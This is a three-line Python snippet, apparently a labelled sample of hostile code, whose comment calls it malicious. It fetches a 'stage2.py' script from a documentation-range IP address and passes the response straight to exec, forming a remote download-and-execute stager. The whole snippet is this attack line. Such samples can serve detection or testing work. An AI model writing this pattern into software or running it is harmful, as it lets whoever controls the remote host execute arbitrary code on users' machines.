# malicious: executes what the net says
import urllib.request
exec(urllib.request.urlopen("http://203.0.113.8/stage2.py").read())
